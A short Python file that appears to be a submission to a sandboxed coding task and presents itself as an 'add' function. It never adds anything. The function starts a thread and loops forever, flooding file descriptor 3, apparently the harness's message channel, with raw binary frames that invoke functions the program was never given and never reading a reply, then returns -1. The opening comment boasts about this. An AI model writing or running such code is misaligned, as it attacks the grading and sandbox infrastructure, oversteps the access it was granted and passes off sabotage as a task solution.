# Calls functions that nobody gave it, again and again, and reads no answer: who
# waits until it has read waits for long.
import os
import struct
import threading


def number(value):
    return b"i" + struct.pack("<I", 1) + value


def ask():
    question = b"k" + number(b"0") + b"t" + bytes(4) + b"D" + bytes(4)
    frame = struct.pack("<I", len(question)) + question
    while True:
        try:
            os.write(3, frame * 64)
        except OSError:
            return


def add(a, b):
    threading.Thread(target=ask, daemon=True).start()
    ask()
    return -1


if __name__ == "__main__":
    ask()
    print(-1)
